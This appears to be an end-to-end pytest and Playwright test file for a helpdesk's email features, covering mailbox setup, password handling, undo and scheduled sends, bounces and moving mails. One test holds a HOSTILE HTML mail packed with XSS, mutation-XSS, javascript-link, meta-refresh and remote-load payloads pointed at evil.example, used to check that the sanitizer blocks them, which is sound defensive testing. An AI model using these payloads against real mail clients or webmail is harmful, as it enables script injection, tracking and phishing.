"""Mail in the console: a mailbox connected, mails shown safely, answers sent, taken back, put off and followed."""

import re
import socket
import time
from email.message import EmailMessage
from email.utils import make_msgid

import pytest

from conftest import shot, sign_in
from mail_servers import Dovecot, Sink
from people import Agent, stamp
from server import OWNER, Server, in_chinese, signed_in

ADDRESS = "support@qinghe.example"


class Mailroom:
    """One Deskbell whose mailbox sends to a sink and takes mail over HTTP."""

    def __init__(self):
        self.server = Server("--demo")
        self.sink = Sink()
        self.owner = signed_in(self.server, *OWNER)
        inbox = self.owner.json("POST", "/api/v1/inboxes", {
            "kind": "email", "name": "Support", "settings": {"mail": {
                "address": ADDRESS, "undo_seconds": 3,
                "smtp": {"host": "127.0.0.1", "port": self.sink.port, "security": "none", "username": "", "auth": "password"},
            }},
        }, 201)
        self.inbox = inbox["id"]
        made = self.owner.json("POST", f"/api/v1/inboxes/{self.inbox}/mailbox/token", expect=201)
        self.token, self.inbound = made["token"], made["inbound_url"]

    def receive(self, raw):
        """Hands a mail over as an MTA's pipe does; the ticket follows a moment later."""
        path = self.inbound[self.inbound.index("/api/v1"):]
        status, _, answer = self.owner.call("POST", path, raw=raw, headers={
            "Authorization": f"Bearer {self.token}", "Content-Type": "message/rfc822", "Cookie": "",
        })
        assert status == 202, answer

    def ticket(self, subject, timeout=30):
        """The newest ticket of a subject, waited for."""
        until = time.time() + timeout
        while time.time() < until:
            items = self.owner.json("GET", "/api/v1/tickets?channel=email&status=all&sort=newest&limit=50")["items"]
            found = next((one for one in items if one["subject"] == subject), None)
            if found:
                return found
            time.sleep(0.2)
        raise AssertionError(f"no ticket {subject!r}")

    def stop(self):
        self.server.remove()
        self.sink.stop()


@pytest.fixture(scope="module")
def room():
    room = Mailroom()
    yield room
    room.stop()


def letter(subject, text, sender="王梅 <mei.wang@mail.example>", html=None, **headers):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, ADDRESS, subject
    mail["Message-ID"] = make_msgid(domain="mail.example")
    mail["Date"] = time.strftime("%a, %d %b %Y %H:%M:%S +0000", time.gmtime())
    for name, value in headers.items():
        mail[name.replace("_", "-")] = value
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    return mail


def open_ticket(room, context, subject, **options):
    page = context(**options).new_page()
    sign_in(page, room.server)
    ticket = room.ticket(subject)
    page.goto(f"{room.server.url}/tickets/{ticket['number']}?list=all_open")
    page.get_by_role("log").wait_for()
    return page, ticket


FRAME = "document.querySelector('iframe.mail-frame').contentDocument.body"


def test_a_mailbox_is_connected_in_words(context):
    server, sink, dovecot = Server("--demo"), Sink("--auth"), Dovecot()
    try:
        page = context().new_page()
        sign_in(page, server)
        page.goto(server.url + "/settings/inboxes")
        page.get_by_role("button", name="Connect a mailbox").click()
        page.get_by_label(re.compile("^Address")).fill(Dovecot.USER)
        page.get_by_label(re.compile("^Password")).fill("wrong")
        page.get_by_text("Servers").click()
        for place, port in ((0, dovecot.port), (1, sink.port)):
            box = page.locator("fieldset.server").nth(place)
            box.get_by_label("Server", exact=True).fill("127.0.0.1")
            box.get_by_label("Port").fill(str(port))
            box.get_by_label("Encryption").select_option("none")
        page.locator("fieldset.server").nth(1).get_by_label("Sign-in name").fill(Sink.USER)
        page.get_by_label("Another password for sending").fill(Sink.PASSWORD)
        page.get_by_role("button", name="Connect", exact=True).click()
        steps = page.get_by_role("list", name="Test the connection").or_(page.locator(".test-steps"))
        steps.get_by_text("did not take the sign-in name and password").wait_for()
        shot(page, "mailbox-refused")
        # Nothing is kept of a mailbox that does not work unless asked to.
        owner = signed_in(server, *OWNER)
        assert not any(box["enabled"] for box in owner.json("GET", "/api/v1/inboxes")["items"] if box["kind"] == "email")
        page.get_by_label(re.compile("^Password")).fill(Dovecot.PASSWORD)
        page.get_by_role("button", name="Test again").click()
        page.get_by_text(f"{Dovecot.USER} is connected").wait_for()
        page.get_by_text(re.compile("Connected")).first.wait_for()
        shot(page, "mailbox-connected")
        dovecot.deliver(letter("Fetched by IMAP", "Hello from the mailbox").as_bytes())
        page.goto(server.url + "/tickets?list=all_open")
        page.get_by_text("Hello from the mailbox").first.wait_for(timeout=60_000)
    finally:
        server.remove()
        sink.stop()
        dovecot.stop()


def test_a_stored_password_is_sent_to_no_other_server(room, context):
    strangers, name = socket.create_server(("127.0.0.1", 0)), stamp("Post")
    strangers.settimeout(1)
    server = {"host": "mail.old.example", "port": 993, "security": "tls", "username": ADDRESS, "auth": "password"}
    inbox = room.owner.json("POST", "/api/v1/inboxes", {
        "kind": "email", "name": name, "enabled": False, "secrets": {"imap_password": "sesame", "smtp_password": "two"},
        "settings": {"mail": {"address": ADDRESS, "imap": server, "smtp": {**server, "port": 465}}}}, 201)
    page = context().new_page()
    sign_in(page, room.server)
    page.goto(room.server.url + "/settings/inboxes")
    page.get_by_role("button", name=name).first.click()
    dialog = page.get_by_role("dialog")
    dialog.locator("summary", has_text="Servers").click()

    def elsewhere(place):
        box = dialog.locator("fieldset.server").nth(place)
        box.get_by_label("Server", exact=True).fill("127.0.0.1")
        box.get_by_label("Port").fill(str(strangers.getsockname()[1]))
        box.get_by_label("Encryption").select_option("none")

    elsewhere(1)
    sentence = "Enter the password again: the stored one is for mail.old.example and is sent nowhere else."
    dialog.locator("label.field", has_text="Another password for sending").get_by_text(sentence).wait_for()
    for button in ("Test the connection", "Save"):
        dialog.get_by_role("button", name=button, exact=True).click()
        dialog.get_by_role("alert").get_by_text("Enter the password again at the server that changed").wait_for()
    shot(page, "mailbox-password-again")
    elsewhere(0)
    password = dialog.get_by_label(re.compile("^Password"))
    dialog.locator("label.field", has_text=re.compile("^Password")).get_by_text(sentence).wait_for()
    assert password.evaluate("(field) => field.required && field.placeholder === ''")
    dialog.get_by_role("button", name="Save", exact=True).click()
    assert password.evaluate("(field) => field === document.activeElement")
    with pytest.raises(TimeoutError):
        strangers.accept()
    saved = room.owner.json("GET", f"/api/v1/inboxes/{inbox['id']}")["settings"]["mail"]
    assert saved["imap"]["host"] == saved["smtp"]["host"] == "mail.old.example"
    # Entered, it may go there.
    strangers.close()
    password.fill("open")
    dialog.get_by_role("button", name="Save", exact=True).click()
    dialog.get_by_role("button", name="Keep it anyway").click()
    dialog.wait_for(state="detached")
    saved = room.owner.json("GET", f"/api/v1/inboxes/{inbox['id']}")["settings"]["mail"]
    assert saved["imap"]["host"] == saved["smtp"]["host"] == "127.0.0.1"
    room.owner.json("DELETE", f"/api/v1/inboxes/{inbox['id']}", expect=204)


def test_the_password_is_asked_for_again_on_a_phone_in_chinese(room, context):
    server = {"host": "imap.old.example", "username": ADDRESS}
    inbox = room.owner.json("POST", "/api/v1/inboxes", {
        "kind": "email", "name": "旧邮箱", "enabled": False, "secrets": {"imap_password": "sesame"},
        "settings": {"mail": {"address": ADDRESS, "imap": server, "smtp": {**server, "host": "smtp.old.example"}}}}, 201)
    try:
        with in_chinese(room.owner):
            page = context(width=360, height=740, locale="zh-CN", dark=True).new_page()
            sign_in(page, room.server)
            page.goto(room.server.url + "/settings/inboxes")
            page.get_by_role("button", name="旧邮箱").first.click()
            dialog = page.get_by_role("dialog")
            dialog.get_by_label(re.compile("^邮箱服务商")).select_option("qq")
            dialog.get_by_text("请重新填写密码：已保存的密码只用于 imap.old.example，不会发送到其他服务器。").wait_for()
            assert page.evaluate("document.documentElement.scrollWidth") <= 360
            shot(page, "mailbox-password-again-zh-360")
    finally:
        room.owner.json("DELETE", f"/api/v1/inboxes/{inbox['id']}", expect=204)


def test_a_mail_shows_its_words_its_quote_and_its_layout(room, context):
    subject = stamp("Late parcel")
    room.receive(letter(
        subject, "The parcel is late again.\n\nOn Monday, Qinghe wrote:\n> It left our warehouse.\n",
        html="<html><body><table bgcolor='#eeeeee'><tr><td style='color:#b00'><b>The parcel is late again.</b></td></tr></table>"
             "<img src='https://pictures.example/banner.png' width=300 height=50><img src='https://spy.example/dot.gif' width=1 height=1></body></html>",
        Cc="Li Lei <li.lei@mail.example>",
    ).as_bytes())
    page, ticket = open_ticket(room, context, subject)
    elsewhere = []
    page.on("request", lambda request: elsewhere.append(request.url) if room.server.url not in request.url and not request.url.startswith(("data:", "blob:")) else None)
    log = page.get_by_role("log")
    log.get_by_text("The parcel is late again.").wait_for()
    log.get_by_text("to us, Cc Li Lei").wait_for()
    assert log.get_by_text("It left our warehouse").count() == 0
    log.get_by_role("button", name="Show the quoted mail").click()
    log.get_by_text("It left our warehouse").wait_for()
    log.get_by_role("button", name="Show as sent").click()
    log.get_by_text("1 picture from elsewhere was not loaded").wait_for()
    assert page.evaluate(f"{FRAME}.querySelector('b').textContent") == "The parcel is late again."
    assert page.evaluate(f"getComputedStyle({FRAME}.querySelector('td')).color") == "rgb(187, 0, 0)"
    assert page.evaluate("document.querySelector('iframe.mail-frame').getAttribute('sandbox')") == "allow-same-origin allow-popups allow-popups-to-escape-sandbox"
    shot(page, "mail-as-sent")
    log.get_by_role("button", name="Why is this here?").click()
    page.get_by_role("dialog").get_by_text("it began a new one").wait_for()
    page.keyboard.press("Escape")
    log.get_by_role("button", name="Original").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("radio", name="Headers").click()
    dialog.get_by_role("cell", name=re.compile("mail.example")).first.wait_for()
    with page.expect_download() as download:
        dialog.get_by_role("link", name="Download the source").click()
    assert subject in open(download.value.path(), encoding="utf-8").read()
    assert elsewhere == []


HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/style.png)} *{position:fixed}</style>
<link rel="stylesheet" href="https://evil.example/link.css"></head><body onload="parent.evil='onload'">
<p>Harmless words</p><script>parent.evil='script'</script><img src=x onerror="parent.evil='onerror'">
<a href="javascript:parent.evil='link'">Click me</a><a href=" java&#10;script:parent.evil='link'">And me</a>
<svg onload="parent.evil='svg'"><script>parent.evil='svg'</script></svg><iframe srcdoc="<script>parent.parent.evil='srcdoc'</script>"></iframe>
<form action="https://evil.example/form"><input name=password autofocus onfocus="parent.evil='focus'"><button>Send</button></form>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed"><video src="https://evil.example/video" autoplay></video>
<math><mtext><table><mglyph><style><img src=x onerror="parent.evil='math'"></style></mglyph></table></mtext></math>
<div style="background:url(https://evil.example/div.png);position:fixed;inset:0;z-index:9">Over everything</div>
<img srcset="https://evil.example/set.png 1x" src="https://evil.example/img.png"><details open ontoggle="parent.evil='toggle'">d</details>
</body></html>"""


def test_a_hostile_mail_runs_nothing_and_loads_nothing(room, context):
    subject = stamp("You have won")
    room.receive(letter(subject, "Harmless words", sender="Eve <eve@evil.example>", html=HOSTILE).as_bytes())
    page, _ = open_ticket(room, context, subject)
    elsewhere, problems = [], []
    page.on("request", lambda request: elsewhere.append(request.url) if "evil.example" in request.url else None)
    page.on("dialog", lambda dialog: (problems.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: problems.append(message.text) if "Content Security Policy" in message.text else None)
    address = page.url
    log = page.get_by_role("log")
    log.get_by_role("button", name="Show as sent").click()
    page.locator("iframe.mail-frame").wait_for()
    page.wait_for_timeout(1000)
    assert "Harmless words" in page.evaluate(f"{FRAME}.textContent")
    markup = page.evaluate(f"{FRAME}.innerHTML")
    for sign in ("script", "onerror", "onload", "evil", "<form", "<input", "<iframe", "<svg", "fixed", "url("):
        assert sign not in markup, markup
    for words in ("Click me", "And me"):
        page.evaluate(f"[...{FRAME}.querySelectorAll('a')].find((a) => a.textContent === '{words}')?.click()")
    page.wait_for_timeout(500)
    shot(page, "mail-hostile")
    assert page.evaluate("window.evil") is None
    assert elsewhere == [] and problems == [] and page.url == address
    assert page.context.pages == [page]


def test_an_answer_can_be_taken_back_and_then_leaves(room, context):
    subject = stamp("Taken back")
    room.receive(letter(subject, "Where is it?", Cc="Li Lei <li.lei@mail.example>").as_bytes())
    page, ticket = open_ticket(room, context, subject)
    agent = Agent(page)
    recipients = page.locator(".recipients")
    recipients.get_by_text("王梅").wait_for()
    first = stamp("Too hasty")
    agent.box.fill(first)
    agent.box.press("Control+Enter")
    page.get_by_role("status").get_by_text(re.compile("Sending in")).first.wait_for()
    shot(page, "mail-undo")
    page.keyboard.press("z")
    page.wait_for_timeout(500)
    assert agent.box.input_value() == first
    page.wait_for_timeout(4000)
    assert room.sink.count(first) == 0
    second = stamp("It is on its way")
    agent.box.fill(second)
    agent.box.press("Control+Enter")
    mail = room.sink.to("mei.wang@mail.example", saying=second)
    assert mail["Subject"].startswith("Re: ") and ADDRESS in mail["From"]
    assert any("li.lei@mail.example" in people for people, _ in room.sink.mails)
    agent.thread.get_by_role("button", name="Sent", exact=True).wait_for()
    assert room.sink.count(first) == 0 and room.sink.count(second) >= 1
    shot(page, "mail-sent")


def test_an_answer_for_later_is_edited_and_sent_now(room, context):
    subject = stamp("For later")
    room.receive(letter(subject, "No hurry.", sender="Li Lei <li.lei@mail.example>").as_bytes())
    page, _ = open_ticket(room, context, subject)
    agent = Agent(page)
    page.locator(".recipients").get_by_text("Li Lei").wait_for()
    words = stamp("Tomorrow then")
    agent.box.fill(words)
    page.get_by_role("button", name="Send later").click()
    page.get_by_role("button", name=re.compile("In an hour")).click()
    agent.thread.get_by_text(re.compile("unless the customer writes first")).wait_for()
    shot(page, "mail-later")
    agent.thread.get_by_role("button", name="Edit").click()
    page.wait_for_timeout(300)
    assert agent.box.input_value() == words
    agent.box.fill(words + " or today")
    page.get_by_role("button", name="Send later").click()
    page.get_by_role("button", name=re.compile("In an hour")).click()
    agent.thread.get_by_role("button", name="Send now").click()
    room.sink.to("li.lei@mail.example", saying=words + " or today")
    assert room.sink.count(words) == 1


def test_people_added_by_hand_outlive_the_page_and_get_the_mail(room, context):
    subject = stamp("One more reader")
    room.receive(letter(subject, "Who else knows?").as_bytes())
    page, ticket = open_ticket(room, context, subject)
    drafts = f"/api/v1/tickets/{ticket['id']}/drafts"
    page.locator(".recipients").get_by_text("王梅").wait_for()
    page.locator(".recipients").click()
    with page.expect_response(lambda answer: answer.request.method == "PUT" and answer.url.endswith("/drafts/reply")) as kept:
        page.get_by_label("Cc", exact=True).fill("Zhao Min <zhao.min@mail.example>")
        page.get_by_label("Cc", exact=True).press("Enter")
    assert kept.value.status == 200
    page.reload()
    page.locator(".recipients").get_by_text("Zhao Min").wait_for()
    shot(page, "mail-recipients-kept")
    agent = Agent(page)
    words = stamp("Zhao knows too")
    agent.reply(words)
    room.sink.to("zhao.min@mail.example", saying=words)
    agent.thread.get_by_role("button", name="Sent", exact=True).wait_for()
    page.reload()
    page.locator(".recipients").get_by_text("王梅").wait_for()
    assert room.owner.json("GET", drafts)["reply"] is None


def test_a_refused_mail_says_so_in_their_words(room, context):
    subject = stamp("Unreachable")
    room.receive(letter(subject, "Write back if you can.", sender="Nobody Known <unknown@mail.example>").as_bytes())
    page, ticket = open_ticket(room, context, subject)
    agent = Agent(page)
    page.locator(".recipients").get_by_text("Nobody Known").wait_for()
    agent.reply(stamp("We try"))
    mark = agent.thread.get_by_role("button", name="Not sent")
    mark.wait_for(timeout=40_000)
    mark.click()
    sheet = page.get_by_role("dialog")
    sheet.get_by_text(re.compile("no such user")).wait_for()
    sheet.get_by_role("button", name="Send again").wait_for()
    shot(page, "mail-refused")
    page.keyboard.press("Escape")
    page.goto(room.server.url + "/settings/mail?direction=out&state=failed")
    page.get_by_text("unknown@mail.example").first.wait_for()
    page.get_by_text(re.compile("no such user")).first.wait_for()
    page.get_by_role("link", name=f"#{ticket['number']}").first.wait_for()
    shot(page, "mail-log")


def test_a_mail_on_the_wrong_ticket_is_moved_and_moved_back(room, context):
    first, second = stamp("Order 4711"), stamp("Something about 4711")
    room.receive(letter(first, "Please change the address.").as_bytes())
    target = room.ticket(first)
    room.receive(letter(second, "The new address is Long Street 1.").as_bytes())
    page, source = open_ticket(room, context, second)
    log = page.get_by_role("log")
    log.get_by_role("button", name="Why is this here?").click()
    page.get_by_role("button", name="Move to another ticket").click()
    dialog = page.get_by_role("dialog", name="Move to another ticket")
    dialog.get_by_role("combobox").fill(str(target["number"]))
    dialog.get_by_role("option", name=re.compile(f"#{target['number']}")).wait_for()
    shot(page, "mail-move")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(f"/tickets/{target['number']}"))
    log.get_by_text("The new address is Long Street 1.").wait_for()
    page.get_by_role("status").get_by_role("button", name="Undo").click()
    page.wait_for_url(re.compile(f"/tickets/{source['number']}"))
    log.get_by_text("The new address is Long Street 1.").first.wait_for()


def test_a_mail_to_a_customer_begins_a_ticket(room, context):
    page = context().new_page()
    sign_in(page, room.server)
    subject = stamp("Your order is ready")
    page.keyboard.press("c")
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("radio", name="Email").click()
    dialog.get_by_label("To", exact=True).fill("new.customer@mail.example")
    dialog.get_by_label("Subject").fill(subject)
    dialog.get_by_label("Mail", exact=True).fill("Come and fetch it.")
    shot(page, "mail-new")
    dialog.get_by_role("button", name="Send the mail").click()
    page.wait_for_url(re.compile(r"/tickets/\d+"))
    mail = room.sink.to("new.customer@mail.example", saying="Come and fetch it.")
    assert subject in mail["Subject"]


def test_mail_fits_a_phone_in_chinese_and_dark(room, context):
    subject = stamp("手机")
    room.receive(letter(
        subject, "包裹还没有到。\n\n在 2026年11月24日，下午3:05，清河茶铺 写道：\n> 已经发出。\n",
        html="<table width=900 bgcolor='#fff8e0'><tr><td><h1>包裹还没有到</h1></td></tr></table>",
    ).as_bytes())
    with in_chinese(room.owner):
        phone(room, context, subject)


def phone(room, context, subject):
    page, _ = open_ticket(room, context, subject, width=360, height=740, dark=True, locale="zh-CN")
    log = page.get_by_role("log")
    log.get_by_text("包裹还没有到").first.wait_for()
    log.get_by_role("button", name="显示原样").click()
    page.locator("iframe.mail-frame").wait_for()
    page.wait_for_timeout(500)
    shot(page, "mail-phone")
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    for path in ("/settings/mail", "/settings/inboxes"):
        page.goto(room.server.url + path)
        page.wait_for_timeout(800)
        shot(page, "mail-phone" + path.replace("/", "-"))
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), path
